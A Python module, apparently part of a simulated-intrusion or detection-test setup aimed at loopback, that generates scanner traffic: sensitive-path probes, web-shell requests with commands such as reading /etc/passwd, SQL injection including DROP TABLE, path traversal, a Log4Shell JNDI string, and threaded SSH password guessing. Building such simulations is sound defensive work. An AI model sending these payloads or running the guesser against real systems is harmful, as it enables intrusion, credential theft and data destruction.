"""The web scanner and the password guesser that the intrusion begins with. Both talk to loopback only.

Owns the probes and the guesses. Refuses to know what comes of them. The User-Agent strings are imitations of the
well-known tools; the requests are this module's own.
"""

from __future__ import annotations

import contextlib
import random
import threading
import time

import paramiko
from session import connect
from visitors import fetch

BROWSER = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36"
SCANNER = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{test:06d})"
INJECTOR = "sqlmap/1.7.2#stable (https://sqlmap.org)"
PATHS = (
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.aws/credentials",
    "/.htpasswd",
    "/backup.sql",
    "/dump.sql",
    "/wp-login.php",
    "/wp-admin/",
    "/wp-content/debug.log",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/pma/",
    "/adminer.php",
    "/server-status",
    "/actuator/env",
    "/manager/html",
    "/solr/admin/",
    "/cgi-bin/test-cgi",
    "/config.php.bak",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/owa/auth/logon.aspx",
)
WEB_SHELLS = (
    "/shell.php?cmd=id",
    "/c99.php",
    "/r57.php",
    "/uploads/shell.php?cmd=cat+/etc/passwd",
    "/wso.php",
    "/cmd.jsp?cmd=whoami",
    "/images/b374k.php",
    "/alfa.php?cmd=uname+-a",
)
INJECTIONS = (
    "/search?q=%27+OR+%271%27%3D%271",
    "/search?q=1%27+UNION+SELECT+NULL,NULL--+-",
    "/search?q=1%20AND%20SLEEP(5)",
    "/search?q=1+UNION+ALL+SELECT+table_name+FROM+information_schema.tables--",
    "/search?q=1;WAITFOR+DELAY+%270:0:5%27--",
    "/products.html?id=1+AND+extractvalue(1,concat(0x7e,version()))",
    "/search?q=%27%3B+DROP+TABLE+orders--",
)
TRAVERSALS = (
    "/../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "/download?file=../../../../etc/passwd",
    "/download?file=....//....//....//etc/passwd",
    "/index.php?page=php://filter/convert.base64-encode/resource=index",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/search?q=${jndi:ldap://127.0.66.66/a}",
)

USERS = ("root", "admin", "test", "ubuntu", "git", "oracle", "postgres", "bob", "deploy")
WORDS = ("123456", "password", "admin", "letmein", "changeme", "Welcome1")


def probe_paths(source: str) -> None:
    """Ask for paths that only a scanner asks for."""
    for test, path in enumerate(random.sample(PATHS, len(PATHS)), start=1):
        fetch(source, "GET", path, {"User-Agent": SCANNER.format(test=test)})
        time.sleep(random.uniform(0.05, 0.4))


def probe_web_shells(source: str) -> None:
    """Look for web shells that others may have left."""
    for path in WEB_SHELLS:
        fetch(source, "GET", path, {"User-Agent": BROWSER})
        time.sleep(random.uniform(0.05, 0.4))


def inject(source: str) -> None:
    """Try SQL injection, then path traversal and two other well-known exploits, on the site's parameters."""
    for path in INJECTIONS:
        fetch(source, "GET", path, {"User-Agent": INJECTOR})
        time.sleep(random.uniform(0.1, 0.5))
    for path in TRAVERSALS:
        fetch(source, "GET", path, {"User-Agent": BROWSER})
        time.sleep(random.uniform(0.1, 0.5))


def guess(source: str, user: str, words: tuple[str, ...]) -> bool:
    """Try the words on one connection, as guessers do, until one fits or the server hangs up."""
    transport = connect(source)
    try:
        for word in words:
            with contextlib.suppress(paramiko.AuthenticationException):
                transport.auth_password(user, word, fallback=False)
                return True
    except (paramiko.SSHException, EOFError, OSError):
        return False  # "Too many authentication failures": the server closed the connection
    finally:
        transport.close()
    return False


def guess_all(source: str, user: str, password: str) -> bool:
    """Guess at every account, four at a time; last of all `user`, whose password is weak enough to be in the list."""
    waves = [USERS[start : start + 4] for start in range(0, len(USERS), 4)]
    for wave in waves:
        threads = [threading.Thread(target=guess, args=(source, name, WORDS)) for name in wave]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=60)
    return guess(source, user, ("deploy", "deploy123", password))
